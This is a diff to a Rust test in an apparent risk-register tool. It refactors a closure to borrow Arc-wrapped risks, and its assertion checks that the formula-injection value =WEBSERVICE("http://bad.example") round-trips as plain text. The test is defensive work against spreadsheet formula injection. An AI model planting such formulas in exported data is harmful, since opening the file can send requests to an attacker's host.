@@ -95,10 +95,11 @@ fn what_begins_like_a_formula_goes_out_as_text_and_comes_back_as_it_was() {
                 .write_stdin(register.to_owned()),
         );
         let register = bellwether_domain::Register::from_json(&json).unwrap();
-        let of = |risk: bellwether_domain::Risk| {
-            (risk.description, risk.actions.into_iter().map(|a| a.description).collect::<Vec<_>>())
+        let of = |risk: &std::sync::Arc<bellwether_domain::Risk>| {
+            let actions = risk.actions.iter().map(|a| a.description.clone());
+            (risk.description.clone(), actions.collect::<Vec<_>>())
         };
-        register.risks.into_iter().map(of).collect::<Vec<_>>()
+        register.risks.iter().map(of).collect::<Vec<_>>()
     };
     let back = words(&out);
     assert_eq!(back[0].0.as_deref(), Some("=WEBSERVICE(\"http://bad.example\")"));
